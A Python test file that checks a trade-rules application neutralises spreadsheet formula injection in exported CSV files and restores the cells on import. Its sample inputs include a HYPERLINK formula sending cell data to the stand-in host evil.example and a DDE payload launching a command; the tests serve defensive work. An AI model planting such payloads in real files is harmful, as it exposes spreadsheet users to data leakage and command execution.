"""Exported CSV files cannot run formulas in a spreadsheet: cells starting with =, +, -, @
are neutralised on export and restored on import (the files still round-trip)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from ewtp.traderules.engine import cells
from ewtp.traderules.services.versions import rules_export, rules_import

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_cells_are_neutralised_and_restored() -> None:
    for cell in (FORMULA, "+1+cmd|' /C calc'!A0", "-2-3", "@SUM(A1)", "\tx", "\r=1"):
        written = cells.neutralise(cell)
        assert written == "'" + cell
        assert cells.restore(written) == cell
    for cell in ("-0.5", "+3", "1e-3", "", "coffee", "'quoted", "0.075"):
        assert cells.neutralise(cell) == cell
        assert cells.restore(cell) == cell


def test_an_exported_formula_is_inert_and_round_trips(tmp_path: Path, rules_dir: Path) -> None:
    sources = rules_dir / "SOURCES.csv"
    with sources.open(encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    rows[1][1] = FORMULA  # what a steward, or an attacker, typed as the source of S01
    with sources.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    first = rules_import(rules_dir, actor=None)
    rules_export(tmp_path / "out")
    with (tmp_path / "out" / "SOURCES.csv").open(encoding="utf-8") as handle:
        row = next(row for row in csv.DictReader(handle) if row["id"] == "S01")
    assert row["what"].startswith("'=HYPERLINK(")
    second = rules_import(tmp_path / "out", actor=None)
    assert second.content == first.content
    assert second.changes == {}
